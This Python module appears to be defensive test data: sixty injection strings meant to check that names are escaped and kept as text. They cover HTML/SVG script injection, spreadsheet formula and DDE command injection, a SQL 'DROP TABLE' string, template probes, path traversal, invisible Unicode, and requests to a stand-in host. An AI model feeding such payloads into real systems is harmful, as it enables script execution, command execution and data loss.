"""Sixty names that would be something else than a name wherever markup, formulas or templates are read, in groups of six.

Each tells by the word `evil`, by an address of evil.example or by `window.hacked` that it was not taken as text. The one of a group that
swallows what follows, where it is read, is the last.
"""

_RUN = "window.hacked=1"

GROUPS: tuple[tuple[str, ...], ...] = (
    (
        '=HYPERLINK("http://evil.example/1","evil")',
        f"<script>{_RUN}</script>",
        f'<img src=x onerror="{_RUN}">',
        "<b>evil</b>",
        "**evil**",
        f"<svg onload={_RUN}>",
    ),
    (
        "+cmd|'/C calc'!A0",
        f"<svg><script>{_RUN}</script></svg>",
        f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
        "[evil](http://evil.example/2)",
        "$evil$",
        f"<details open ontoggle={_RUN}>",
    ),
    (
        "-2+3+cmd|'/C evil'!Z9",
        f'<a href="javascript:{_RUN}">evil</a>',
        "![evil](http://evil.example/3.png)",
        "<style>@import 'http://evil.example/3.css';</style>",
        "~~evil~~",
        "<!-- evil",
    ),
    (
        "@SUM(1+1)*cmd|'/C evil'!A0",
        f"<body onload={_RUN}>",
        f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/4'>",
        "`evil`",
        "<textarea>evil",
    ),
    (
        "=cmd|'/C evil'!A1",
        f'"><script>{_RUN}</script>',
        f"' onmouseover='{_RUN}' evil='",
        "<form action=http://evil.example/5><input name=evil></form>",
        ":red[evil]",
        "<title>evil",
    ),
    (
        '=WEBSERVICE("http://evil.example/6")',
        f"</script><script>{_RUN}</script>",
        "<link rel=stylesheet href=http://evil.example/6.css>",
        "<object data=http://evil.example/6></object>",
        ":smile: evil",
        f"<input autofocus onfocus={_RUN} value=evil",
    ),
    (
        "=1+1;evil",
        f"&#60;img src=x onerror={_RUN}&#62;",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
        "http://evil.example/7 www.evil.example e@evil.example",
        "_evil_ __evil__",
        "<plaintext>evil",
    ),
    (
        "%0Aevil: 1 %22%3E",
        f"<video><source onerror={_RUN}></video>",
        f"<marquee onstart={_RUN}>evil</marquee>",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {name} {0} %s %(evil)s",
        "[[evil]] [evil][1] [^1]",
        f"<img src=x onerror={_RUN} alt='evil",
    ),
    (
        "= evil",
        "<table><tr><td>evil</td></tr></table> | evil | a |",
        f"<x onclick={_RUN} tabindex=1 id=evil>evil</x>",
        "\u202eevil\u202c \u200bevil \u2066evil\u2069 \ufeff",
        "# evil > evil - evil 1. evil",
        f'<embed src="data:text/html,<script>{_RUN}</script>',
    ),
    (
        "\uff1devil \uff0bevil \uff0devil \uff20evil",
        "]]> <![CDATA[evil]]> <?xml version='1.0'?> <!DOCTYPE evil>",
        "&evil; &#x3c;b&#x3e;evil&#x3c;/b&#x3e;",
        "'; DROP TABLE projects; -- evil",
        "../../evil %2e%2e%2fevil C:\\evil CON NUL",
        f"<template><img src=x onerror={_RUN}>",
    ),
)
